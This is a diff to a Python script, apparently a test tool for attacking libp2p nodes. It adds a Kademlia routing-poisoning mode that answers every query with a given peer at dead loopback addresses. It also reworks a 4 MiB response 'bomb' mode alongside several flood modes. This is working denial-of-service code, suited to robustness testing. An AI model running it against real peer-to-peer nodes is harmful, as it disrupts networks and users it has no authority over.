@@ -12,6 +12,8 @@ sends unless told to, and stops by itself after the given time.
   hostile.py kad-bomb   HOST PORT SECONDS          listens (port 0: any) as a Kademlia server
                                                   that answers every request with 4 MiB of
                                                   empty closerPeers; prints "listening <multiaddr>"
+  hostile.py kad-poison HOST PORT SECONDS PEER [N] the same server, answering with PEER (a peer
+                                                  ID) at N (32) addresses where nobody listens
 
 Prints one line "sent <bytes> bytes on <n> connections" at the end. Noise XX
 (libp2p noise spec) is written out here with the cryptography package
@@ -168,6 +170,14 @@ def base58(b):
     return '1' * (len(b) - len(b.lstrip(b'\0'))) + out
 
 
+def unbase58(s):
+    n = 0
+    for ch in s:
+        n = n * 58 + B58.index(ch)
+    b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
+    return b'\0' * (len(s) - len(s.lstrip('1'))) + b
+
+
 def identity_payload(ident, static_pub):
     pub = b'\x08\x01\x12\x20' + raw(ident.public_key())  # PublicKey{Ed25519, 32 bytes}
     sig = ident.sign(b'noise-libp2p-static-key:' + static_pub)
@@ -220,15 +230,29 @@ def respond(s, ident):
     return Opener(k1), Cipher(k2)
 
 
-def kad_bomb_conn(s, ident):
+def bomb_answer():
+    """FIND_NODE with empty closerPeers, as large as a Kademlia message may be."""
+    body = b'\x08\x04' + b'\x42\x00' * ((4 * 1024 * 1024 - 16) // 2)
+    return uvarint(len(body)) + body
+
+
+def poison_answer(peer, n):
+    """FIND_NODE whose one closer peer is `peer` (base58) at n loopback
+    addresses where nobody listens (/ip4/127.0.0.1/tcp/1..n)."""
+    pid = unbase58(peer)
+    addrs = [b'\x04\x7f\x00\x00\x01\x06' + struct.pack('>H', 1 + i) for i in range(n)]
+    entry = b'\x0a' + uvarint(len(pid)) + pid + b''.join(b'\x12' + uvarint(len(a)) + a
+                                                          for a in addrs)
+    body = b'\x08\x04' + b'\x42' + uvarint(len(entry)) + entry
+    return uvarint(len(body)) + body
+
+
+def kad_bomb_conn(s, ident, bomb):
     """Serve one connection: every /ipfs/kad/1.0.0 request is answered with
-    a message of empty closerPeers as large as a Kademlia message may be,
-    sent within the yamux windows the dialer grants."""
+    the bytes of `bomb`, sent within the yamux windows the dialer grants."""
     opener, out = respond(s, ident)
     plain, muxed = b'', False
     streams = {}  # id: {'in': bytes, 'proto': str|None, 'window': int, 'out': bytes}
-    body = b'\x08\x04' + b'\x42\x00' * ((4 * 1024 * 1024 - 16) // 2)
-    bomb = uvarint(len(body)) + body
     while True:
         data = s.recv(1 << 16)
         if not data:
@@ -286,7 +310,7 @@ def kad_bomb_conn(s, ident):
             s.sendall(out.seal(reply))
 
 
-def kad_bomb(host, port, seconds):
+def kad_bomb(host, port, seconds, answer):
     import threading
     ident = Ed25519PrivateKey.generate()
     pub, _ = identity_payload(ident, b'')
@@ -301,7 +325,7 @@ def kad_bomb(host, port, seconds):
 
     def serve(c):
         try:
-            kad_bomb_conn(c, ident)
+            kad_bomb_conn(c, ident, answer)
         except (OSError, ConnectionError, ValueError) as e:
             print(f'connection ended: {e!r}', file=sys.stderr, flush=True)
         finally:
@@ -413,7 +437,7 @@ def raw_flood(host, port, seconds, conns, opening, more):
 
 def main():
     mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
-    conns = int(sys.argv[5]) if len(sys.argv) > 5 else 1
+    conns = int(sys.argv[5]) if len(sys.argv) > 5 and mode != 'kad-poison' else 1
     if mode == 'ls-flood':
         header = mss_msg('/multistream/1.0.0')
         sent, n = raw_flood(host, port, seconds, conns, header, mss_msg('ls') * 4096)
@@ -423,7 +447,10 @@ def main():
         s, out = secure(host, port)
         sent, n = flood(s, out, lambda i: yamux(2, 1, 0, i & 0xffffffff), seconds), 1
     elif mode == 'kad-bomb':
-        sent, n = 0, kad_bomb(host, port, seconds)
+        sent, n = 0, kad_bomb(host, port, seconds, bomb_answer())
+    elif mode == 'kad-poison':
+        count = int(sys.argv[6]) if len(sys.argv) > 6 else 32
+        sent, n = 0, kad_bomb(host, port, seconds, poison_answer(sys.argv[5], count))
     elif mode == 'syn-flood':
         s, out = secure(host, port)
         sent, n = flood(s, out, lambda i: yamux(1, 1, (2 * i + 1) & 0xffffffff, 0), seconds), 1
